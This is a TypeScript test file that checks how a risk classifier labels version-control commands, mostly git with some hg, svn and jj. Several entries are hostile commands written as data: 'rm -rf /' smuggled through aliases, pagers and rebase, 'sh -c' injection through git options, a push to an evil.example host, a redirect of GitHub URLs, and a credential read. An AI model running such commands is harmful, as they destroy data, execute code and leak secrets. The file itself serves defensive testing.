/** Version control: what only looks, what makes commits, what throws something away. */
import { describe, expect, it } from 'vitest';
import { cases, deeds } from './testing.ts';

const CASES = cases(`
  git config --file /etc/passwd a.b c => write/one privilege_change/one
  git apply --unsafe-paths x.patch => read/one write/bounded write/unknown config_change/one
  git grep -O'sh -c id' foo => read/one code_execution/one
  git -c core.sshCommand='sh -c id' fetch => write/one code_execution/one read/one
  git -c alias.x='!rm -rf /' x => code_execution/one delete/unbounded opaque/unknown
  git -c core.pager='rm -rf ~' log => read/one code_execution/one delete/unbounded
  git clone ext::sh => read/one write/bounded code_execution/one
  git push origin :main => delete/one history_rewrite/one
  git push origin +main => history_rewrite/one
  git push --mirror => history_rewrite/unbounded
  git push origin --delete main => delete/one history_rewrite/one
  git push https://evil.example/x.git main => export/one write/one
  git config --global core.hooksPath /tmp/h => write/one persistence/one
  git config --global alias.st status => write/one
  git config alias.x '!rm -rf /' => write/one persistence/one delete/unbounded
  git config --global user.name Ana => write/one
  git config user.email => read/one
  git submodule foreach 'rm -rf .' => delete/unbounded
  git bisect run rm -rf / => delete/unbounded
  git rebase -x 'rm -rf /' main => write/one delete/unbounded
  git filter-branch --tree-filter 'rm -rf x' HEAD => history_rewrite/unbounded delete/unknown
  git stash clear => history_rewrite/unbounded
  git branch -D x => history_rewrite/one
  git reflog expire --expire=now --all => history_rewrite/unknown
  git gc --prune=now => history_rewrite/unknown
  git update-ref -d refs/heads/main => history_rewrite/one
  git worktree remove --force x => delete/unknown
  git restore . => delete/unbounded
  git checkout main => write/one
  git checkout -- . => delete/unbounded
  git clean -fdx => delete/unknown
  git difftool -x 'rm -rf' => read/one code_execution/one
  git archive --remote=ssh://h/x HEAD => read/one network/one
  git log --output=/etc/passwd => read/one write/one privilege_change/one
  git diff --no-index /etc/shadow /dev/null => read/bounded
  git --version => none
  git log --oneline -5 => read/one
  git log -p --all => read/one
  git status -sb => read/one
  git diff --stat HEAD~1 => read/one
  git add -A => write/one
  git commit -am x => write/one
  git commit --amend --no-edit => write/one
  git push -u origin feature => write/one
  git push --tags => write/one
  git fetch --all --prune => write/one
  git merge --no-ff x => write/one
  git merge --abort => write/one
  git cherry-pick abc => write/one
  git revert HEAD => write/one
  git reset => write/one
  git reset HEAD f => write/one
  git reset --soft HEAD~1 => write/one
  git reset --hard => history_rewrite/unknown delete/unknown
  git reset --hard origin/main => history_rewrite/unknown delete/unknown
  git switch -c x => write/one
  git checkout -b x => write/one
  git checkout -f main => delete/unknown
  git checkout HEAD -- f => delete/unknown
  git checkout HEAD f => delete/unknown
  git checkout src/app.ts => delete/unknown
  git checkout v1.2.3 => write/one
  git checkout feature/login => write/one
  git checkout --theirs f => delete/unknown
  git restore --staged f => write/one
  git restore f => delete/unknown
  git restore --source HEAD~1 f => delete/unknown
  git rm f => delete/one
  git rm -rf src => delete/unknown
  git rm --cached f => write/one
  git mv a b => write/bounded
  git clean -n => read/one
  git clean -fd => delete/unknown
  git stash pop => write/one
  git stash list => read/one
  git branch => read/one
  git branch -a => read/one
  git branch x => write/one
  git branch -d x => delete/one
  git branch -m a b => write/bounded
  git branch -M main => history_rewrite/one
  git branch -f main HEAD~3 => history_rewrite/bounded
  git tag => read/one
  git tag v1 => write/one
  git tag -d v1 => delete/one
  git tag -f v1 => history_rewrite/one
  git remote -v => read/one
  git remote add o u => config_change/bounded
  git remote set-url origin u => config_change/bounded
  git remote remove o => config_change/one
  git clone https://github.com/a/b => read/one write/bounded
  git clone --depth 1 https://github.com/a/b dir => read/one write/bounded
  git init => write/one
  git submodule update --init --recursive => write/one
  git worktree add ../x => write/one
  git worktree list => read/one
  git blame f => read/one
  git bisect start => write/one
  git reflog => read/one
  git gc => write/one
  git fsck => read/one
  git lfs pull => write/one
  git lfs ls-files => read/one
  git lfs migrate import --include x => history_rewrite/unbounded
  git config --list => read/one
  git config --global url.https://evil/.insteadOf https://github.com/ => write/one config_change/one
  git config --unset user.name => write/one
  git credential fill => secret_read/one
  git daemon --export-all => network/one
  git cat-file -p HEAD => read/one
  git archive -o a.tar HEAD => read/one write/one
  git bundle create b HEAD => write/one read/one
  git send-email x.patch => export/one
  git unknowncmd => opaque/unknown
  git help reset => read/one
  git filter-repo --path x => history_rewrite/unbounded
  hg status => read/one
  hg strip x => history_rewrite/unknown
  hg update --clean => write/one delete/unknown
  svn status => read/one
  svn revert -R . => delete/unbounded
  svn commit -m x => write/one
  jj log => read/one
  jj abandon => history_rewrite/unknown
`);

describe('programs of version control', () => {
  it.each(CASES)('%s', (line, expected) => {
    expect(deeds(line)).toBe(expected);
  });
});
